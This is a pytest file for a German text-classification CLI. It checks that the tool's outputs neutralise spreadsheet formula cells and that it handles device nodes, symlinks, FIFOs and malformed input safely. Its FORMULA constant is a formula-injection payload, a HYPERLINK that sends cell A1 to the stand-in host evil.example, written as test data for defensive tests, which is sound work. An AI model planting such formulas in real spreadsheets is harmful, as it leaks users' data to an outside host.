"""Every command that reads or writes files, against hostile files: formula cells, special files as inputs
and outputs, malformed tables. The rules live in nlp.results.output and nlp.results.spreadsheet."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import stat
import threading

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from cli import main

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1;"Bericht")'
SENTIMENTS = ("positiv", "negativ", "gemischt", "neutral")
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root")


def _run(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def _record(n, text="Gute Moderation.", landkreis="Calw", **change):
    record = {
        "id": str(n),
        "report": "calw.txt",
        "section": "bewertung",
        "text": text,
        "themes": ["moderation"],
        "sentiment": "positiv",
        "scores": {"themes": {"moderation": 0.9}, "sentiment": {s: 0.25 for s in SENTIMENTS}},
        "model_version": "test",
        "kommune": landkreis,
        "landkreis": landkreis,
        "regierungsbezirk": "Karlsruhe",
        "event_date": "2017-03-01",
    }
    return record | change


def _write_jsonl(path, records):
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), "utf-8")
    return path


@pytest.fixture
def results(tmp_path):
    """Tagged records whose text, Kommune and Landkreis are formulas."""
    return _write_jsonl(
        tmp_path / "results.jsonl",
        [_record(1, FORMULA, FORMULA), _record(2, "-Minus", "@Kreis"), _record(3, "+49 Telefon", "Calw")],
    )


def _null_device(path):
    """A stand-in for /dev/null inside the test folder (same device numbers), so the real one is safe."""
    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    return path


# -- every spreadsheet cell is data ---------------------------------------------------------------


@pytest.mark.parametrize("excel", [False, True])
def test_tag_csv_quotes_formula_statements(trained_model, tmp_path, excel):
    table = _write_jsonl(tmp_path / "s.jsonl", [{"text": FORMULA}, {"text": "\t=1+1 Rechnung"}])
    out = tmp_path / "r.csv"
    result = _run("tag", table, "--model", trained_model, "--output", out, *(["--excel"] if excel else []))
    assert result.exit_code == 0, result.output
    text = out.read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";" if excel else ","))
    # a statement is stripped (the tab goes), the formula behind it is quoted
    assert [r["text"] for r in rows] == ["'" + FORMULA, "'=1+1 Rechnung"]
    assert all(r["p_positiv"][:1].isdigit() for r in rows)  # numbers stay numbers
    # the tool reads its own CSV back as written: aggregate and report count the same statements
    assert _run("aggregate", out).exit_code == 0


def test_tag_xlsx_writes_text_cells_never_formulas(trained_model, tmp_path):
    table = _write_jsonl(tmp_path / "s.jsonl", [{"text": FORMULA}, {"text": "Gute Moderation."}])
    for args in (["--xlsx", "--output", tmp_path / "a.xlsx"], ["--output", tmp_path / "b.xlsx"]):
        result = _run("tag", table, "--model", trained_model, *args)
        assert result.exit_code == 0, result.output
    for name in ("a.xlsx", "b.xlsx"):
        sheet = load_workbook(tmp_path / name).active
        header = [c.value for c in sheet[1]]
        text, p = sheet.cell(2, header.index("text") + 1), sheet.cell(2, header.index("p_positiv") + 1)
        assert (text.value, text.data_type) == (FORMULA, "s")
        assert p.data_type == "n" and 0 <= p.value <= 1


def test_aggregate_output_quotes_formula_landkreis(results, tmp_path):
    result = _run("aggregate", results, "--by", "landkreis", "--output", tmp_path / "t.csv", "--excel")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_text("utf-8-sig")), delimiter=";"))
    assert rows[1:] == [
        ["'" + FORMULA, "1", "3", "0,3333"],
        ["'@Kreis", "1", "3", "0,3333"],
        ["Calw", "1", "3", "0,3333"],
    ]
    printed = _run("aggregate", results, "--by", "landkreis")
    assert "\n'@Kreis\t" in printed.stdout and "\n\"'=HYPERLINK" in printed.stdout


def test_aggregate_xlsx_by_suffix(results, tmp_path):
    result = _run("aggregate", results, "--by", "landkreis", "--output", tmp_path / "t.xlsx")
    assert result.exit_code == 0, result.output
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert [(c.value, c.data_type) for c in sheet[2]] == [(FORMULA, "s"), (1, "n"), (3, "n"), (0.3333, "n")]


def test_suggest_output_quotes_formula_texts(trained_model, results, tmp_path):
    result = _run("suggest", results, "--model", trained_model, "--output", tmp_path / "s.csv")
    assert result.exit_code == 0, result.output
    texts = {r["text"] for r in csv.DictReader(io.StringIO((tmp_path / "s.csv").read_text("utf-8")))}
    assert texts == {"'" + FORMULA, "'-Minus", "'+49 Telefon"}


# -- outputs never replace what they must not -------------------------------------------------------


def _writers(trained_model, results, tmp_path, out):
    database = f"sqlite:///{tmp_path / 'db.sqlite3'}"
    return {
        "tag": [
            "tag",
            _write_jsonl(tmp_path / "s.jsonl", [{"text": "Gut."}]),
            "--model",
            trained_model,
            "--output",
            out,
        ],
        "tag --excel": ["tag", tmp_path / "s.jsonl", "--model", trained_model, "--excel", "--output", out],
        "aggregate": ["aggregate", results, "--output", out],
        "aggregate --plot": ["aggregate", results, "--plot", out],
        "report": ["report", results, "--html", out],
        "suggest": ["suggest", results, "--model", trained_model, "--output", out],
        "export-db": ["export-db", out, "--database", database],
    }


WRITERS = ["tag", "tag --excel", "aggregate", "aggregate --plot", "report", "suggest", "export-db"]


@needs_root
@pytest.mark.parametrize("command", WRITERS)
def test_output_to_a_device_keeps_the_device(trained_model, results, tmp_path, command):
    null = _null_device(tmp_path / "null")  # `kfd tag x --output /dev/null` once made /dev/null a file
    result = _run(*_writers(trained_model, results, tmp_path, null)[command])
    assert result.exit_code == 0, result.output
    assert stat.S_ISCHR(os.lstat(null).st_mode)


@pytest.mark.parametrize("command", WRITERS)
def test_output_through_a_symlink_keeps_the_link(trained_model, results, tmp_path, command):
    target = tmp_path / "real"
    target.write_text("alt")
    link = tmp_path / "link"
    link.symlink_to(target)
    result = _run(*_writers(trained_model, results, tmp_path, link)[command])
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and target.read_bytes() != b"alt"


@pytest.mark.parametrize("command", ["tag", "aggregate", "report", "export-db"])
def test_output_to_a_dangling_link_exits_2(trained_model, results, tmp_path, command):
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "gone" / "x")
    result = _run(*_writers(trained_model, results, tmp_path, link)[command])
    assert result.exit_code == 2, result.output
    assert "symbolic link to a missing file" in result.output and "Traceback" not in result.output
    assert not (tmp_path / "gone").exists()


@needs_root
def test_train_out_that_is_a_device_exits_2(tmp_path):
    null = _null_device(tmp_path / "null")
    result = _run("train", "--out", null, "--data", tmp_path / "data", "--folds", "0")
    assert result.exit_code == 2 and "not a folder" in result.output
    assert stat.S_ISCHR(os.lstat(null).st_mode)


def test_tag_output_dash_is_standard_output(trained_model, tmp_path):
    table = _write_jsonl(tmp_path / "s.jsonl", [{"text": "Gut."}])
    result = _run("tag", table, "--model", trained_model, "--output", "-")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout.splitlines()[0])["text"] == "Gut."
    assert not (tmp_path / "-").exists()


# -- special and malformed files as inputs ----------------------------------------------------------


def _readers(trained_model, tmp_path, path):
    return {
        "tag": ["tag", path, "--model", trained_model],
        "aggregate": ["aggregate", path],
        "report": ["report", path, "--html", tmp_path / "r.html"],
        "suggest": ["suggest", path, "--model", trained_model],
        "import-labels": ["import-labels", path, "--data", tmp_path / "data"],
        "import-db": ["import-db", path, "--database", f"sqlite:///{tmp_path / 'db.sqlite3'}"],
    }


READERS = ["tag", "aggregate", "report", "suggest", "import-labels", "import-db"]


@pytest.fixture
def fifo(tmp_path):
    """A FIFO with a writer held open; after 20 s the writer closes, so a reader that blocks on it today
    gets end-of-file instead of hanging the suite."""
    path = tmp_path / "pipe.jsonl"
    os.mkfifo(path)
    fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
    timer = threading.Timer(20, os.close, [fd])
    timer.start()
    yield path
    timer.cancel()
    timer.join()
    with contextlib.suppress(OSError):  # closed already by the timer
        os.close(fd)


@pytest.mark.parametrize("kind", ["fifo", "link to a fifo", "link to /dev/zero"])
@pytest.mark.parametrize("command", READERS)
def test_input_that_is_not_a_regular_file_exits_2(trained_model, tmp_path, fifo, command, kind):
    path = fifo
    if kind != "fifo":
        path = tmp_path / "in.jsonl"
        path.symlink_to(fifo if kind == "link to a fifo" else "/dev/zero")
    result = _run(*_readers(trained_model, tmp_path, path)[command])
    assert result.exit_code == 2, result.output
    assert "not a regular file" in result.output and "Traceback" not in result.output
    assert len(result.output.strip().splitlines()) == 1


def test_tag_report_that_is_a_fifo_exits_2(trained_model, tmp_path):
    path = tmp_path / "bericht.txt"
    os.mkfifo(path)
    result = _run("tag", path, "--model", trained_model)
    assert result.exit_code == 2 and "bericht.txt: not a regular file" in result.output


@pytest.mark.parametrize("command", READERS)
def test_input_over_the_size_cap_exits_2(trained_model, tmp_path, command):
    path = tmp_path / "big.jsonl"
    with path.open("wb") as f:
        f.truncate(200 * 1024 * 1024 + 1)  # sparse
    result = _run(*_readers(trained_model, tmp_path, path)[command])
    assert result.exit_code == 2 and "larger than 200 MB" in result.output, result.output


MALFORMED = {
    "not json": ("r.jsonl", b"kein json\n"),
    "list for a text": (
        "r.jsonl",
        json.dumps(_record(1, landkreis=["Calw", "Rastatt"], text=["a"])).encode(),
    ),
    "not utf-8": ("r.jsonl", b'{"text": "\xff\xfe Gr\xfc\xdfe"}\n'),
    "csv field over the limit": ("r.csv", b'text,themes,sentiment\n"' + b"x" * 200_000 + b'",a,positiv\n'),
}


@pytest.mark.parametrize("case", list(MALFORMED))
@pytest.mark.parametrize("command", READERS)
def test_malformed_input_exits_2_with_one_line(trained_model, tmp_path, command, case):
    name, content = MALFORMED[case]
    path = tmp_path / name
    path.write_bytes(content)
    result = _run(*_readers(trained_model, tmp_path, path)[command])
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and isinstance(result.exception, SystemExit)
    lines = result.output.strip().splitlines()
    if command == "import-labels":  # one line per bad row, then the summary
        assert lines[-1].endswith("nothing written") or len(lines) == 1
    else:
        assert len(lines) == 1 and name in lines[0], lines


def test_report_with_a_list_for_landkreis_exits_2(tmp_path):
    path = _write_jsonl(tmp_path / "r.jsonl", [_record(1), _record(2, landkreis=["Calw", "Rastatt"])])
    result = _run("report", path, "--html", tmp_path / "r.html")
    assert result.exit_code == 2 and "r.jsonl:2: not a `kfd tag` record" in result.output
    assert not (tmp_path / "r.html").exists()
